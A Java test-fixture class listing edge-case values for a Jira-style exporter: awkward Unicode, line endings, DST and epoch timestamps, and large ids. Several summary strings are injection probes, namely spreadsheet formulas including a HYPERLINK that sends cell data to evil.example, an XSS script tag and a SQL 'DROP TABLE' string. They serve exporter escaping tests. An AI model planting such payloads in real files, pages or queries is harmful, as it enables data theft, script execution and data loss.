package io.tablewise.devhost.sample;

import java.time.Instant;
import java.time.LocalDateTime;
import java.util.List;

/**
 * The values an exporter most easily gets wrong, placed at fixed rows (the first issues, the
 * first comment, the first page...) so tests and people can find them.
 */
final class EdgeValues {

    private EdgeValues() {
    }

    /** Issue {@code i < SUMMARIES.size()} gets summary {@code i}. Every one fits varchar(255) in UTF-16 units. */
    static final List<String> SUMMARIES = java.util.Arrays.asList(
            "=SUM(A1:A10) in the export totals is wrong",
            "+49 30 1234567 shown twice on the customer card",
            "-1 days remaining shown for overdue sprints",
            "@channel please review the release notes",
            "=HYPERLINK(\"http://evil.example/?q=\"&A1,\"Click me\")",
            "Quote \"test\", comma, semicolon; all in one",
            "Tab\tseparated\tsummary",
            "Line one\nline two (LF)",
            "Line one\r\nline two (CRLF)",
            "Carriage\rreturn only (CR)",
            "Ünïcödé façade – naïve café résumé Straße Ærøskøbing",
            "导出功能无法处理大文件 / 大きなファイルをエクスポートできない / 큰 파일 내보내기 실패",
            "Rocket launch 🚀 fails with 🔥 — 👍🏽 from QA, 👩‍💻 on it",
            "שלום עולם — مرحبا بالعالم (right-to-left text)",
            "",
            null,
            "   leading and trailing spaces   ",
            "Backslash \\ path C:\\temp\\new and literal \\n \\t",
            "\\N",
            "<script>alert('xss')</script> & <b>bold</b> &amp;",
            "'; DROP TABLE jiraissue; --",
            fillTo(255, "Exactly 255 characters, the varchar(255) limit: "),
            "Combining e\u0301 vs é; zero\u200Bwidth space; no-break\u00A0space",
            "\t=1+2 after a leading tab",
            "\r=1+2 after a leading carriage return",
            "0012345 and 1E5 and 1,5 and 2024-03-10 look like numbers and dates",
            "NULL",
            "𝔘𝔫𝔦𝔠𝔬𝔡𝔢 math letters, 𠜎 CJK extension B, Ω≈ç√∫",
            "Ends with a backslash \\",
            "Trailing newline\n");

    /** Issue {@code i < CREATED.size()} is created at instant {@code i}: DST switches, leap day, epoch. */
    static final List<Instant> CREATED = List.of(
            Instant.parse("2023-03-26T00:59:59.999999Z"), // last micro-second before CET→CEST
            Instant.parse("2023-03-26T01:00:00Z"),        // the switch itself (02:00 CET = 03:00 CEST)
            Instant.parse("2023-10-29T00:30:00Z"),        // 02:30 CEST, first of two 02:30s in Berlin
            Instant.parse("2023-10-29T01:30:00Z"),        // 02:30 CET, the second one
            Instant.parse("2024-03-10T07:00:00Z"),        // US spring forward (02:00 EST → 03:00 EDT)
            Instant.parse("2024-11-03T06:00:00Z"),        // US fall back
            Instant.parse("2024-02-29T23:59:59.999999Z"), // leap day, last micro-second
            Instant.parse("2019-12-31T23:59:59.999Z"),
            Instant.parse("2020-01-01T00:00:00Z"),
            Instant.parse("2021-03-28T01:00:00.5Z"));

    /** Due dates of the first issues: epoch, before epoch, the 2038 rollover, a far future. */
    static final List<Instant> DUE = List.of(
            Instant.parse("1970-01-01T00:00:00Z"),
            Instant.parse("1969-12-31T23:59:59Z"),
            Instant.parse("2038-01-19T03:14:08Z"),
            Instant.parse("9999-12-31T23:59:59.999999Z"));

    /** Local times for timestamp-without-zone columns that do not exist, or exist twice, somewhere. */
    static final List<LocalDateTime> LOCAL = List.of(
            LocalDateTime.parse("2023-03-26T02:30:00"),   // never happened in Berlin
            LocalDateTime.parse("2023-10-29T02:30:00"),   // happened twice in Berlin
            LocalDateTime.parse("2024-03-10T02:30:00"),   // never happened in New York
            LocalDateTime.parse("2024-02-29T12:00:00.123456"),
            LocalDateTime.parse("2000-01-01T00:00:00"));

    /** Personal access tokens that never expire carry this date (observed in a real Jira dump). */
    static final LocalDateTime NEVER_EXPIRES = LocalDateTime.parse("9999-12-31T00:00:00");

    /** Beyond 2^53 (JavaScript's exact-integer limit) inside numeric(18,0): the last issue's id. */
    static final long HUGE_ISSUE_ID = 900_719_925_474_099_301L;
    /** numeric(18,0) at its maximum: the last change group's id. */
    static final long MAX_NUMERIC_18 = 999_999_999_999_999_999L;
    /** 2^53 + 1, the first integer a double cannot hold: a long property value. */
    static final long TWO_POW_53_PLUS_ONE = 9_007_199_254_740_993L;

    static String fillTo(int length, String prefix) {
        StringBuilder text = new StringBuilder(prefix);
        while (text.length() < length) {
            text.append((char) ('a' + text.length() % 26));
        }
        return text.toString();
    }

    /** Sizes of the deliberately long texts. */
    static final int LONG_TEXT = 120_000;
    static final int VERY_LONG_TEXT = 260_000;
    /** Just over a mebibyte of characters: more than H2's CHARACTER VARYING can hold. */
    static final int HUGE_PAGE_BODY = 1_100_000;
}
